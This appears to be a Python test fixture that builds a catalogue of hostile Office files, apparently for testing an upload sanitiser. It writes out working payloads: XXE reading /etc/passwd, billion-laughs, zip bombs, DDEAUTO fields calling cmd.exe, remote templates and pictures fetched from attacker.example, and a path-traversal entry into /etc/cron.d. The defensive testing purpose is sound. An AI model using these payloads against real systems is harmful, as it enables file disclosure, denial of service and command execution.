"""Word and Excel files with programs, bombs, declarations and references in them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

from tests.unit.foundation.hostile.entry import MB, Hostile, a_zip

_TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="%s"/></Types>'
)
_WORD_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
_DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "haha">' + b"".join(
    b'<!ENTITY a%d "&a%d;&a%d;">' % (n, n - 1, n - 1) for n in range(1, 30)
)


def office(parts: Iterable[tuple[str, bytes]] = (), *, main: bytes | None = None, kind: bytes = _WORD_TYPE) -> bytes:
    """Return a Word file with further parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES % kind)
        archive.writestr("word/document.xml", main or b"<w:document %s/>" % _W)
        for name, content in parts:
            archive.writestr(name, content)
    return buffer.getvalue()


def excel(parts: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """Return an Excel file with further parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        for name, content in parts:
            archive.writestr(name, content)
    return buffer.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    """Return a relationships part with one entry."""
    return _RELS % f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'.encode()


def field(*runs: str) -> bytes:
    """Return a Word part with one field whose code is spread over runs."""
    code = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return b"<w:document %s>" % _W + (mark.format("begin") + code + mark.format("end")).encode() + b"</w:document>"


def big_part(megabytes: int) -> bytes:
    buffer = io.BytesIO(office())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/big.xml", "w") as part,
    ):
        part.write(b"<x>")
        for _number in range(megabytes):
            part.write(b" " * MB)
        part.write(b"</x>")
    return buffer.getvalue()


def understated_part() -> bytes:
    """Return a file whose list says 10 bytes where 50 MB are."""
    data = big_part(50)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        true_size = archive.getinfo("word/big.xml").file_size
    return data.replace(struct.pack("<I", true_size), struct.pack("<I", 10))


def repeated_part() -> bytes:
    """Return a file in whose list 1000 names share the same 2 MB."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = b" " * (2 * MB)
    body = packed.compress(plain) + packed.flush()
    buffer = io.BytesIO(office())
    with zipfile.ZipFile(buffer, "a") as archive:
        start = archive.start_dir
        buffer.seek(start)
        buffer.write(
            struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, zlib.crc32(plain), len(body), len(plain), 9, 0)
        )
        buffer.write(b"word/x000" + body)
        archive.start_dir = buffer.tell()
        for number in range(1000):
            info = zipfile.ZipInfo(f"word/x{number:03d}.xml")
            info.header_offset, info.CRC, info.compress_type = start, zlib.crc32(plain), zipfile.ZIP_DEFLATED
            info.compress_size, info.file_size = len(body), len(plain)
            archive.filelist.append(info)
        archive._didModify = True  # type: ignore[attr-defined]
    return buffer.getvalue()


DOCUMENTS = [
    Hostile("Word with macros", "a.docx", lambda: office([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])),
    Hostile(
        "Word that says it has macros",
        "a.docx",
        lambda: office(kind=b"application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    Hostile(
        "macro relation",
        "a.docx",
        lambda: office([("word/_rels/document.xml.rels", relation("vbaProject", "m.xml", "Internal"))]),
    ),
    Hostile("old Word file named .docx", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    Hostile(".docm", "a.docm", office),
    Hostile("zip bomb of 1 GB", "a.docx", lambda: big_part(1024)),
    Hostile("zip bomb of 50 MB", "a.docx", lambda: big_part(50)),
    Hostile("zip bomb that understates its size", "a.docx", understated_part),
    Hostile("zip bomb of shared bytes", "a.docx", repeated_part),
    Hostile("5000 parts", "a.docx", lambda: office((f"word/p{n}.xml", b"<x/>") for n in range(5000))),
    Hostile("XXE", "a.docx", lambda: office(main=_DOCTYPE.encode())),
    Hostile("XXE in UTF-16", "a.docx", lambda: office([("word/styles.xml", _DOCTYPE.encode("utf-16"))])),
    Hostile("XXE in relations", "a.docx", lambda: office([("word/_rels/document.xml.rels", _DOCTYPE.encode())])),
    Hostile("billion laughs", "a.xlsx", lambda: excel([("xl/sharedStrings.xml", _LAUGHS + b"]><x>&a29;</x>")])),
    Hostile(
        "template from elsewhere",
        "a.docx",
        lambda: office(
            [("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://attacker.example/t.dotm"))]
        ),
    ),
    Hostile(
        "picture from elsewhere",
        "a.docx",
        lambda: office([("word/_rels/document.xml.rels", relation("image", "http://attacker.example/pixel.png"))]),
    ),
    Hostile(
        "link to a share",
        "a.docx",
        lambda: office([("word/_rels/document.xml.rels", relation("hyperlink", "file://attacker/share"))]),
    ),
    Hostile(
        "share without saying external",
        "a.docx",
        lambda: office([("word/_rels/document.xml.rels", relation("image", "\\\\attacker\\x", "Internal"))]),
    ),
    Hostile("DDE field", "a.docx", lambda: office(main=field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "))),
    Hostile("DDE field in pieces", "a.docx", lambda: office(main=field(" DD", "EAU", "TO cmd "))),
    Hostile("field that fetches", "a.docx", lambda: office(main=field(' INCLUDEPICTURE "http://attacker.example/x" '))),
    Hostile("OLE object", "a.docx", lambda: office([("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")])),
    Hostile("program among the parts", "a.docx", lambda: office([("word/media/run.exe", b"MZ")])),
    Hostile(
        "HTML chunk",
        "a.docx",
        lambda: office([("word/_rels/document.xml.rels", relation("aFChunk", "x.xml", "Internal"))]),
    ),
    Hostile("ActiveX", "a.docx", lambda: office([("word/activeX/activeX1.xml", b"<x/>")])),
    Hostile("part that climbs out", "a.docx", lambda: office([("word/../../../etc/cron.d/x.xml", b"<x/>")])),
    Hostile("part with a drive letter", "a.docx", lambda: office([("C:/x.xml", b"<x/>")])),
    Hostile("two parts of one name", "a.docx", lambda: office([("word/Document.xml", b"<x/>")])),
    Hostile(
        "documents within documents",
        "a.docx",
        lambda: office([("word/embeddings/a.docx", office([("word/embeddings/b.docx", office())]))]),
    ),
    Hostile(
        "macros one level down",
        "a.docx",
        lambda: office([("word/embeddings/a.xlsx", excel([("xl/vbaProject.bin", b"x")]))]),
    ),
    Hostile("table that reads another", "a.xlsx", lambda: excel([("xl/externalLinks/externalLink1.xml", b"<x/>")])),
    Hostile("Excel 4 macros", "a.xlsx", lambda: excel([("xl/macrosheets/sheet1.xml", b"<x/>")])),
    Hostile("any zip named .xlsx", "a.xlsx", a_zip),
    Hostile("Word named Excel", "a.xlsx", office),
    Hostile("zip behind a Word file", "a.docx", lambda: office() + a_zip(), ()),
    Hostile(
        "author in the properties",
        "a.docx",
        lambda: office([("docProps/core.xml", b"<p><dc:creator xmlns:dc='x'>SECRETAUTHOR</dc:creator></p>")]),
        (b"SECRETAUTHOR",),
    ),
]
